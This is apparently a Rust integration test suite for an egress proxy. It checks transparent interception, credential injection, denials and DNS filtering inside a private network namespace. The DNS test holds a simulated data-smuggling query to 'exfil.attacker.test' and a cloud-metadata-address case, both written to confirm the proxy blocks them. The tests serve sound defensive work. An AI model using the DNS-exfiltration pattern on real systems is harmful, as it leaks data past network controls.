//! Forced egress, for real: each test re-runs itself inside a private network and
//! mount namespace (`unshare --net --mount`), so everything — upstreams, the proxy,
//! the clients, a recording DNS server — lives on that namespace's loopback and no
//! packet can reach another network. Inside, the proxy runs as root and the clients as
//! `nobody`, whose TCP an iptables owner-match rule redirects to the transparent
//! listener; `/etc/hosts` and `/etc/resolv.conf` are bind-mounted for the namespace.
//!
//! Needs root, `unshare`, `setpriv`, `iptables` and `ip`. Without them the tests fail
//! under `CI=true` and are skipped (with the reason printed) otherwise.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

use std::collections::BTreeSet;
use std::net::{Ipv4Addr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use egress_proxy_tests::process::RunningProxy;
use egress_proxy_tests::proxy::{TOKEN_NAME, TOKEN_VALUE};
use egress_proxy_tests::upstream::{GIT_README, Upstream, UpstreamOptions, git_bare_repo};
use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{Name, RData, Record, RecordType};
use serde_json::Value;

/// Set in the re-run inside the namespace.
const INSIDE: &str = "EGRESS_PROXY_TEST_NETNS";

/// The client helper the tests run as `nobody` (raw sockets, TLS without SNI, ...).
const CLIENT_PY: &str = r#"
import socket, ssl, sys
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
def read_all(s):
    out = b""
    while True:
        try:
            chunk = s.recv(65536)
        except (ConnectionResetError, ssl.SSLError) as e:
            out += ("<error %s>" % e).encode()
            break
        if not chunk:
            break
        out += chunk
    return out
s = socket.create_connection((host, port), timeout=20)
if mode == "raw":
    s.sendall(sys.argv[4].encode().decode("unicode_escape").encode("latin-1"))
    sys.stdout.write(read_all(s).decode("latin-1"))
elif mode == "tls":
    ctx = ssl.create_default_context(cafile=sys.argv[4])
    sni = sys.argv[5] if len(sys.argv) > 5 else None
    if sni is None:
        ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, ConnectionResetError, OSError) as e:
        print("handshake failed: %s" % e)
        sys.exit(3)
    t.sendall(("GET /echo/sni HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
    sys.stdout.write(read_all(t).decode("latin-1"))
elif mode == "urllib":
    import urllib.request, urllib.error
    ctx = ssl.create_default_context(cafile=sys.argv[4])
    req = urllib.request.Request(sys.argv[5], headers={"Authorization": "Bearer agent-token"})
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=20) as r:
            print(r.status); print(r.read().decode())
    except urllib.error.HTTPError as e:
        print(e.code); print(e.read().decode())
"#;

/// Whether this run is the one inside the namespace (set up); otherwise re-runs
/// `test` there and returns `false` once it passed (or was skipped).
fn inside_namespace(test: &str) -> bool {
    if std::env::var_os(INSIDE).is_some() {
        set_up_namespace();
        return true;
    }
    let ci = std::env::var("CI").is_ok_and(|v| v == "true");
    let missing: Vec<&str> = ["unshare", "setpriv", "iptables", "ip", "mount"]
        .into_iter()
        .filter(|tool| !on_path(tool))
        .collect();
    let is_root = Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0");
    let reason = if !is_root {
        Some("it needs root (a network namespace, iptables rules, clients as nobody)".to_owned())
    } else if !missing.is_empty() {
        Some(format!("it needs {} on the PATH", missing.join(", ")))
    } else {
        None
    };
    if let Some(reason) = reason {
        assert!(!ci, "{test}: cannot run under CI=true: {reason}");
        eprintln!("SKIPPED {test}: {reason}");
        return false;
    }
    let exe = std::env::current_exe().unwrap();
    let status = Command::new("unshare")
        .args(["--net", "--mount", "--"])
        .arg(exe)
        .args([test, "--exact", "--nocapture", "--test-threads=1"])
        .env(INSIDE, "1")
        .status()
        .expect("run unshare");
    assert!(status.success(), "{test} failed inside its namespace");
    false
}

fn on_path(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

fn sh(program: &str, args: &[&str]) {
    let output = Command::new(program).args(args).output().unwrap();
    assert!(
        output.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Loopback up, and a check that this really is a private namespace (no other
/// interface with an address).
fn set_up_namespace() {
    sh("ip", &["link", "set", "lo", "up"]);
    let links = Command::new("ip").args(["-o", "link"]).output().unwrap();
    let links = String::from_utf8_lossy(&links.stdout);
    assert_eq!(links.lines().count(), 1, "not a private namespace: {links}");
}

/// A directory everyone may read (the clients run as nobody).
fn shared_dir() -> tempfile::TempDir {
    let dir = tempfile::Builder::new()
        .prefix("forced-egress")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

/// A directory nobody may write to.
fn writable_dir(parent: &Path, name: &str) -> PathBuf {
    let dir = parent.join(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    dir
}

/// Bind-mount a file with `content` over `target` (inside the mount namespace only).
fn mount_over(dir: &Path, target: &str, content: &str) {
    let file = dir.join(target.trim_start_matches('/').replace('/', "_"));
    std::fs::write(&file, content).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    sh("mount", &["--bind", file.to_str().unwrap(), target]);
}

/// Redirect every TCP connection `nobody` makes to `port` (the transparent listener).
fn redirect_nobody_to(port: u16) {
    sh(
        "iptables",
        &[
            "-t",
            "nat",
            "-A",
            "OUTPUT",
            "-p",
            "tcp",
            "-m",
            "owner",
            "--uid-owner",
            "nobody",
            "-j",
            "REDIRECT",
            "--to-ports",
            &port.to_string(),
        ],
    );
}

/// `program args` as nobody, with an environment holding no proxy settings at all.
fn as_nobody(program: &str, args: &[&str], envs: &[(&str, &str)]) -> Command {
    let mut cmd = Command::new("setpriv");
    cmd.args([
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        program,
    ])
    .args(args)
    .env_clear()
    .env("PATH", "/usr/local/bin:/usr/bin:/bin")
    .env("HOME", "/tmp");
    for (name, value) in envs {
        cmd.env(name, value);
    }
    cmd
}

async fn run(mut cmd: Command) -> Output {
    tokio::task::spawn_blocking(move || cmd.output().expect("run client"))
        .await
        .unwrap()
}

fn text(output: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// The proxy's CA, copied where nobody can read it.
fn shared_ca(proxy: &RunningProxy, dir: &Path) -> String {
    let ca = dir.join("proxy-ca.crt");
    std::fs::copy(proxy.ca_path(), &ca).unwrap();
    std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).unwrap();
    ca.to_str().unwrap().to_owned()
}

fn port_of(addr: &str) -> u16 {
    addr.parse::<SocketAddr>().unwrap().port()
}

/// The `echo` JSON's header list injects our token and never the agent's.
fn assert_injected(body: &str, client: &str) {
    assert!(
        body.contains(&format!("Bearer {TOKEN_VALUE}")),
        "{client}: {body}"
    );
    assert!(!body.contains("agent-token"), "{client}: {body}");
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

const HOSTS: &str = "127.0.0.1 localhost
127.0.0.2 api.test
127.0.0.3 other.test
127.0.0.4 plain.test
127.0.0.5 denied.test
";

/// curl, Python's urllib, Node's fetch and git, none told about any proxy, reach an
/// allowed HTTPS host through the transparent listener (credential injected, their
/// own Authorization stripped) and get the JSON 403 for an unrouted one.
#[test]
fn clients_without_proxy_settings_are_intercepted() {
    if !inside_namespace("clients_without_proxy_settings_are_intercepted") {
        return;
    }
    runtime().block_on(async {
        let dir = shared_dir();
        mount_over(dir.path(), "/etc/hosts", HOSTS);
        let files = tempfile::tempdir().unwrap();
        git_bare_repo(files.path());
        let upstream = Upstream::start(UpstreamOptions {
            extra_names: vec!["api.test".into()],
            files_root: Some(files.path().to_owned()),
            ..UpstreamOptions::default()
        })
        .await;
        let upstream_ca = upstream.ca().write_pem(dir.path());
        let routes = dir.path().join("routes.yaml");
        std::fs::write(
            &routes,
            format!(
                "routes:\n  - host: api.test\n    path_allowlist: [/echo/, /git/]\n    auth:\n      scheme: Bearer\n      token_ref: {TOKEN_NAME}\n"
            ),
        )
        .unwrap();
        let connect_to = format!("api.test:443:127.0.0.1:{}", upstream.port());
        let mut proxy = RunningProxy::start(
            &routes,
            &dir.path().join("state"),
            &[
                "--transparent-listen",
                "127.0.0.1:0",
                "--upstream-ca",
                upstream_ca.to_str().unwrap(),
                "--connect-to",
                &connect_to,
            ],
            &[(TOKEN_NAME, TOKEN_VALUE)],
        );
        redirect_nobody_to(port_of(&proxy.transparent));
        let ca = shared_ca(&proxy, dir.path());
        let helper = dir.path().join("client.py");
        std::fs::write(&helper, CLIENT_PY).unwrap();
        let helper = helper.to_str().unwrap().to_owned();

        for host in ["api.test", "denied.test"] {
            let allowed = host == "api.test";
            let url = format!("https://{host}/echo/{host}");
            // curl
            let curl = run(as_nobody(
                "curl",
                &["-sS", "--cacert", &ca, "-H", "Authorization: Bearer agent-token", "-w", "\n%{http_code}", &url],
                &[],
            ))
            .await;
            let out = String::from_utf8_lossy(&curl.stdout).into_owned();
            let (body, code) = out.rsplit_once('\n').unwrap_or((&out, ""));
            if allowed {
                assert_eq!(code, "200", "curl: {}", text(&curl));
                assert_injected(body, "curl");
            } else {
                assert_eq!(code, "403", "curl: {}", text(&curl));
                let denial: Value = serde_json::from_str(body).unwrap();
                assert_eq!(denial["error"], "denied_by_egress_policy", "{body}");
            }
            // Python's urllib
            let python = run(as_nobody("/usr/bin/python3", &[&helper, "urllib", host, "443", &ca, &url], &[])).await;
            let out = String::from_utf8_lossy(&python.stdout).into_owned();
            let (code, body) = out.split_once('\n').unwrap_or((&out, ""));
            if allowed {
                assert_eq!(code, "200", "python: {}", text(&python));
                assert_injected(body, "python");
            } else {
                assert_eq!(code, "403", "python: {}", text(&python));
                assert!(body.contains("denied_by_egress_policy"), "{body}");
            }
            // Node's fetch ignores the proxy variables; here it needs none.
            let script = "fetch(process.argv[1], {headers: {authorization: 'Bearer agent-token'}})\
                .then(async r => console.log(r.status + '\\n' + await r.text()))\
                .catch(e => { console.error(e); process.exit(1); })";
            let node = run(as_nobody("node", &["-e", script, &url], &[("NODE_EXTRA_CA_CERTS", &ca)])).await;
            let out = String::from_utf8_lossy(&node.stdout).into_owned();
            let (code, body) = out.split_once('\n').unwrap_or((&out, ""));
            if allowed {
                assert_eq!(code, "200", "node: {}", text(&node));
                assert_injected(body, "node");
            } else {
                assert_eq!(code, "403", "node: {}", text(&node));
                assert!(body.contains("denied_by_egress_policy"), "{body}");
            }
            // git clone
            let work = writable_dir(dir.path(), &format!("git-{host}"));
            let dest = work.join("clone");
            let git = run(as_nobody(
                "git",
                &["clone", "--quiet", &format!("https://{host}/git/repo.git"), dest.to_str().unwrap()],
                &[
                    ("GIT_SSL_CAINFO", &ca),
                    ("HOME", work.to_str().unwrap()),
                    ("GIT_CONFIG_NOSYSTEM", "1"),
                    ("GIT_TERMINAL_PROMPT", "0"),
                ],
            ))
            .await;
            if allowed {
                assert!(git.status.success(), "git: {}", text(&git));
                let readme = std::fs::read_to_string(dest.join("README.md")).unwrap();
                assert_eq!(readme, GIT_README);
            } else {
                assert!(!git.status.success(), "git reached an unrouted host: {}", text(&git));
                assert!(String::from_utf8_lossy(&git.stderr).contains("403"), "git: {}", text(&git));
            }
        }
        let git_requests: Vec<_> = upstream
            .seen()
            .into_iter()
            .filter(|s| s.path.starts_with("/git/"))
            .collect();
        assert!(!git_requests.is_empty());
        for seen in &git_requests {
            assert_eq!(seen.header("authorization"), Some(format!("Bearer {TOKEN_VALUE}").as_str()));
        }
        assert!(upstream.seen().iter().all(|s| !s.path.contains("denied")));

        // Every connection was logged as a CONNECT decided for the SNI, with where the
        // client had dialled.
        let events = proxy.events();
        let connects: Vec<&Value> = events
            .iter()
            .filter(|e| e["message"] == "access" && e["method"] == "CONNECT")
            .collect();
        assert!(connects.iter().any(|e| e["host"] == "api.test" && e["decision"] == "allow" && e["original_dst"] == "127.0.0.2:443"), "{connects:?}");
        // The requests inside: injected, each logged with where the client dialled.
        assert!(events.iter().any(|e| e["message"] == "access" && e["method"] == "GET" && e["path"] == "/echo/api.test" && e["decision"] == "inject" && e["original_dst"] == "127.0.0.2:443"));
        assert!(connects.iter().any(|e| e["host"] == "denied.test" && e["decision"] == "deny" && e["original_dst"] == "127.0.0.5:443"), "{connects:?}");
        assert!(!proxy.log_text().contains(TOKEN_VALUE), "the credential reached the log");
    });
}

/// Plain HTTP by Host (and 400 without), TLS without SNI, an SNI sent to another
/// host's address, and bytes that are neither TLS nor HTTP.
#[test]
fn transparent_edge_cases() {
    if !inside_namespace("transparent_edge_cases") {
        return;
    }
    runtime().block_on(async {
        let dir = shared_dir();
        mount_over(dir.path(), "/etc/hosts", HOSTS);
        let api = Upstream::start(UpstreamOptions {
            extra_names: vec!["api.test".into()],
            ..UpstreamOptions::default()
        })
        .await;
        let other = Upstream::start(UpstreamOptions {
            extra_names: vec!["other.test".into()],
            ..UpstreamOptions::default()
        })
        .await;
        let plain = Upstream::start(UpstreamOptions {
            tls: false,
            ..UpstreamOptions::default()
        })
        .await;
        // One bundle for both TLS upstreams' CAs.
        let bundle = dir.path().join("upstreams.pem");
        std::fs::write(&bundle, format!("{}{}", api.ca().cert_pem(), other.ca().cert_pem())).unwrap();
        let routes = dir.path().join("routes.yaml");
        std::fs::write(
            &routes,
            "routes:\n  - host: api.test\n    path_allowlist: [/echo/]\n  - host: other.test\n  - host: plain.test\n    ports: [80]\n",
        )
        .unwrap();
        let connect_api = format!("api.test:443:127.0.0.1:{}", api.port());
        let connect_other = format!("other.test:443:127.0.0.1:{}", other.port());
        let connect_plain = format!("plain.test:80:127.0.0.1:{}", plain.port());
        let mut proxy = RunningProxy::start(
            &routes,
            &dir.path().join("state"),
            &[
                "--transparent-listen",
                "127.0.0.1:0",
                "--upstream-ca",
                bundle.to_str().unwrap(),
                "--connect-to",
                &connect_api,
                "--connect-to",
                &connect_other,
                "--connect-to",
                &connect_plain,
            ],
            &[],
        );
        redirect_nobody_to(port_of(&proxy.transparent));
        let ca = shared_ca(&proxy, dir.path());
        let helper = dir.path().join("client.py");
        std::fs::write(&helper, CLIENT_PY).unwrap();
        let helper = helper.to_str().unwrap().to_owned();
        let py = |args: &[&str]| {
            let mut all = vec![helper.as_str()];
            all.extend_from_slice(args);
            as_nobody("/usr/bin/python3", &all, &[])
        };

        // Plain HTTP named by Host, on the original port.
        let curl = run(as_nobody("curl", &["-sS", "--fail", "http://plain.test/echo/plain"], &[])).await;
        assert!(curl.status.success(), "{}", text(&curl));
        assert!(String::from_utf8_lossy(&curl.stdout).contains("/echo/plain"));
        assert_eq!(plain.hits(), 1);
        // No Host: 400, and nothing forwarded.
        let no_host = run(py(&["raw", "127.0.0.4", "80", "GET /echo/x HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n"])).await;
        let out = String::from_utf8_lossy(&no_host.stdout).into_owned();
        assert!(out.starts_with("HTTP/1.1 400"), "{}", text(&no_host));
        assert!(out.contains("Host header"), "{out}");
        assert_eq!(plain.hits(), 1);

        // TLS without SNI: an alert, no request.
        let no_sni = run(py(&["tls", "127.0.0.2", "443", &ca])).await;
        assert_eq!(no_sni.status.code(), Some(3), "{}", text(&no_sni));

        // SNI api.test sent to other.test's address: the proxy goes to api.test.
        let misdirected = run(py(&["tls", "127.0.0.3", "443", &ca, "api.test"])).await;
        let out = String::from_utf8_lossy(&misdirected.stdout).into_owned();
        assert!(out.starts_with("HTTP/1.1 200"), "{}", text(&misdirected));
        assert!(out.contains("/echo/sni"), "{out}");
        assert_eq!(api.hits(), 1, "the named host served it");
        assert_eq!(other.hits(), 0, "the dialled address was not used");

        // A denied name, from a client that does not trust the proxy's CA: it cannot
        // read the JSON 403, so it gets a failed handshake; the denial is logged.
        let distrusting = run(as_nobody("curl", &["-sS", "https://denied.test/"], &[])).await;
        assert_eq!(distrusting.status.code(), Some(60), "{}", text(&distrusting));

        // An SSH banner: closed without a byte back.
        let ssh = run(py(&["raw", "127.0.0.6", "22", "SSH-2.0-OpenSSH_9.6\\r\\n"])).await;
        assert!(ssh.status.success(), "{}", text(&ssh));
        assert_eq!(String::from_utf8_lossy(&ssh.stdout), "", "{}", text(&ssh));

        let events = proxy.events();
        let refused: Vec<&Value> = events
            .iter()
            .filter(|e| e["message"] == "transparent connection refused")
            .collect();
        let reasons: BTreeSet<(String, String)> = refused
            .iter()
            .map(|e| {
                (
                    e["refused"].as_str().unwrap().to_owned(),
                    e["original_dst"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        assert!(reasons.contains(&("no_sni".into(), "127.0.0.2:443".into())), "{reasons:?}");
        assert!(reasons.contains(&("not_tls_or_http".into(), "127.0.0.6:22".into())), "{reasons:?}");
        assert!(
            reasons.contains(&("handshake".into(), "127.0.0.5:443".into())),
            "{reasons:?}"
        );
        assert!(events.iter().any(|e| e["message"] == "access"
            && e["method"] == "CONNECT"
            && e["host"] == "denied.test"
            && e["decision"] == "deny"));
        let plain_line = events
            .iter()
            .find(|e| e["message"] == "access" && e["path"] == "/echo/plain")
            .expect("the plain request's access line");
        assert_eq!(plain_line["host"], "plain.test");
        assert_eq!(plain_line["scheme"], "http");
        assert_eq!(plain_line["port"], 80);
        assert_eq!(plain_line["original_dst"], "127.0.0.4:80");
        let metrics = admin_get(&proxy, "/metrics").await;
        assert!(metrics.contains("egress_proxy_transparent_refused_total{reason=\"no_sni\"} 1"), "{metrics}");
    });
}

async fn admin_get(proxy: &RunningProxy, path: &str) -> String {
    reqwest::Client::builder()
        .no_proxy()
        .build()
        .unwrap()
        .get(format!("http://{}{path}", proxy.admin))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

/// What the recording DNS server knows.
const KNOWN_UPSTREAM: &[(&str, Ipv4Addr)] = &[
    ("resolver-only.test", Ipv4Addr::new(127, 0, 0, 7)),
    ("metadata.test", Ipv4Addr::new(169, 254, 169, 254)),
];

/// A DNS server on the namespace's port 53 (the proxy's resolver, through the
/// bind-mounted resolv.conf) that records every name it is asked about and knows a
/// few.
struct RecordingDns {
    asked: Arc<Mutex<Vec<String>>>,
}

impl RecordingDns {
    async fn start(known: &'static [(&'static str, Ipv4Addr)]) -> Self {
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:53").await.unwrap();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let record = asked.clone();
        tokio::spawn(async move {
            let mut buf = vec![0u8; 4096];
            loop {
                let Ok((n, from)) = socket.recv_from(&mut buf).await else {
                    return;
                };
                let Ok(query) = Message::from_vec(&buf[..n]) else {
                    continue;
                };
                let mut response = Message::response(query.metadata.id, OpCode::Query);
                response.metadata.recursion_available = true;
                let mut nx = true;
                for q in &query.queries {
                    let name = q.name().to_string();
                    record.lock().unwrap().push(name.clone());
                    if let Some((_, ip)) = known.iter().find(|(k, _)| format!("{k}.") == name) {
                        nx = false;
                        if q.query_type() == RecordType::A {
                            response.add_answer(Record::from_rdata(
                                q.name().clone(),
                                60,
                                RData::A(A(*ip)),
                            ));
                        }
                    }
                    response.add_query(q.clone());
                }
                if nx {
                    response.metadata.response_code = ResponseCode::NXDomain;
                }
                let _ = socket.send_to(&response.to_vec().unwrap(), from).await;
            }
        });
        Self { asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// One query to `server` (UDP, or TCP with its two-byte length prefix).
async fn query(server: &str, name: &str, qtype: RecordType, tcp: bool) -> Message {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut message = Message::query();
    message.metadata.id = rand_id();
    message.metadata.recursion_desired = true;
    message.add_query(Query::query(Name::from_ascii(name).unwrap(), qtype));
    let bytes = message.to_vec().unwrap();
    let answer = if tcp {
        let mut stream = tokio::net::TcpStream::connect(server).await.unwrap();
        stream
            .write_all(&u16::try_from(bytes.len()).unwrap().to_be_bytes())
            .await
            .unwrap();
        stream.write_all(&bytes).await.unwrap();
        let len = stream.read_u16().await.unwrap();
        let mut buf = vec![0u8; usize::from(len)];
        stream.read_exact(&mut buf).await.unwrap();
        buf
    } else {
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        socket.send_to(&bytes, server).await.unwrap();
        let mut buf = vec![0u8; 4096];
        let (n, _) = tokio::time::timeout(Duration::from_secs(10), socket.recv_from(&mut buf))
            .await
            .expect("a DNS answer in time")
            .unwrap();
        buf.truncate(n);
        buf
    };
    let response = Message::from_vec(&answer).unwrap();
    assert_eq!(response.metadata.id, message.metadata.id);
    assert_eq!(response.metadata.message_type, MessageType::Response);
    response
}

fn rand_id() -> u16 {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    u16::try_from(nanos % 65_521).unwrap()
}

fn addresses(message: &Message) -> Vec<String> {
    message
        .answers
        .iter()
        .map(|r| match &r.data {
            RData::A(a) => a.0.to_string(),
            RData::AAAA(a) => a.0.to_string(),
            other => format!("{other:?}"),
        })
        .collect()
}

/// The DNS listener answers routed names (both answer modes), NXDOMAIN for the rest,
/// and never asks anyone about a name the policy does not route.
#[test]
fn dns_answers_only_routed_names() {
    if !inside_namespace("dns_answers_only_routed_names") {
        return;
    }
    runtime().block_on(async {
        let dir = shared_dir();
        mount_over(dir.path(), "/etc/hosts", "127.0.0.1 localhost\n");
        mount_over(
            dir.path(),
            "/etc/resolv.conf",
            "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n",
        );
        let upstream_dns = RecordingDns::start(KNOWN_UPSTREAM).await;
        let routes = dir.path().join("routes.yaml");
        std::fs::write(
            &routes,
            "routes:\n  - host: resolver-only.test\n  - host: metadata.test\n  - host: api.test\n",
        )
        .unwrap();
        let mut upstream_mode = RunningProxy::start(
            &routes,
            &dir.path().join("state-upstream"),
            &[
                "--dns-listen",
                "127.0.0.1:0",
                "--dns-answer",
                "upstream",
                "--allow-upstream-cidr",
                "127.0.0.0/8",
            ],
            &[],
        );
        let server = upstream_mode.dns.clone();

        // A routed name: resolved by the proxy (the recording server is asked), answered.
        let routed = query(&server, "resolver-only.test.", RecordType::A, false).await;
        assert_eq!(routed.metadata.response_code, ResponseCode::NoError);
        assert_eq!(addresses(&routed), ["127.0.0.7"]);
        assert!(
            upstream_dns
                .asked()
                .contains(&"resolver-only.test.".to_owned()),
            "{:?}",
            upstream_dns.asked()
        );
        let over_tcp = query(&server, "resolver-only.test.", RecordType::A, true).await;
        assert_eq!(addresses(&over_tcp), ["127.0.0.7"]);
        // Its HTTPS record: empty (no QUIC or ECH hints).
        let https = query(&server, "resolver-only.test.", RecordType::HTTPS, false).await;
        assert_eq!(https.metadata.response_code, ResponseCode::NoError);
        assert!(https.answers.is_empty());
        // Routed, but resolving to the metadata address: the guard leaves it out.
        let metadata = query(&server, "metadata.test.", RecordType::A, false).await;
        assert_eq!(metadata.metadata.response_code, ResponseCode::NoError);
        assert!(metadata.answers.is_empty(), "{:?}", addresses(&metadata));

        // Unrouted: NXDOMAIN, and nobody is asked — not even for a TXT under a long
        // random label (data smuggled out in the name).
        let before = upstream_dns.asked();
        let unrouted = query(&server, "www.attacker.test.", RecordType::A, false).await;
        assert_eq!(unrouted.metadata.response_code, ResponseCode::NXDomain);
        let label: String = format!("{:x}", sha_of(&rand_id().to_string()))
            .chars()
            .take(60)
            .collect();
        let exfil = format!("{label}.exfil.attacker.test.");
        let txt = query(&server, &exfil, RecordType::TXT, false).await;
        assert_eq!(txt.metadata.response_code, ResponseCode::NXDomain);
        assert!(txt.answers.is_empty());
        let txt_tcp = query(&server, &exfil, RecordType::TXT, true).await;
        assert_eq!(txt_tcp.metadata.response_code, ResponseCode::NXDomain);
        tokio::time::sleep(Duration::from_millis(300)).await;
        let after = upstream_dns.asked();
        assert_eq!(before, after, "a query for an unrouted name left the proxy");
        assert!(after.iter().all(|n| !n.contains("attacker")), "{after:?}");

        // One log line per query, a metric per decision.
        let events = upstream_mode.events();
        let lines: Vec<&Value> = events.iter().filter(|e| e["message"] == "dns").collect();
        assert_eq!(lines.len(), 7, "{lines:?}");
        assert!(
            lines
                .iter()
                .any(|e| e["name"] == exfil.trim_end_matches('.')
                    && e["qtype"] == "TXT"
                    && e["decision"] == "nxdomain")
        );
        let metrics = admin_get(&upstream_mode, "/metrics").await;
        for expected in [
            "egress_proxy_dns_queries_total{decision=\"answer\"} 2",
            "egress_proxy_dns_queries_total{decision=\"nxdomain\"} 3",
            "egress_proxy_dns_queries_total{decision=\"empty\"} 1",
            "egress_proxy_dns_queries_total{decision=\"guard_refused\"} 1",
        ] {
            assert!(metrics.contains(expected), "{expected}\n{metrics}");
        }

        // Proxy mode: routed names resolve to the proxy itself, nothing is resolved.
        let asked = upstream_dns.asked().len();
        let proxy_mode = RunningProxy::start(
            &routes,
            &dir.path().join("state-proxy"),
            &[
                "--dns-listen",
                "127.0.0.1:0",
                "--transparent-listen",
                "127.0.0.1:0",
            ],
            &[],
        );
        let server = proxy_mode.dns.clone();
        let a = query(&server, "api.test.", RecordType::A, false).await;
        assert_eq!(addresses(&a), ["127.0.0.1"]);
        let aaaa = query(&server, "api.test.", RecordType::AAAA, false).await;
        assert_eq!(aaaa.metadata.response_code, ResponseCode::NoError);
        assert!(aaaa.answers.is_empty());
        let nx = query(&server, "exfil.attacker.test.", RecordType::A, true).await;
        assert_eq!(nx.metadata.response_code, ResponseCode::NXDomain);
        assert_eq!(
            upstream_dns.asked().len(),
            asked,
            "proxy mode resolved something"
        );
    });
}

fn sha_of(text: &str) -> u128 {
    use sha2::Digest as _;
    let digest = sha2::Sha256::digest(text.as_bytes());
    u128::from_be_bytes(digest[..16].try_into().unwrap())
}
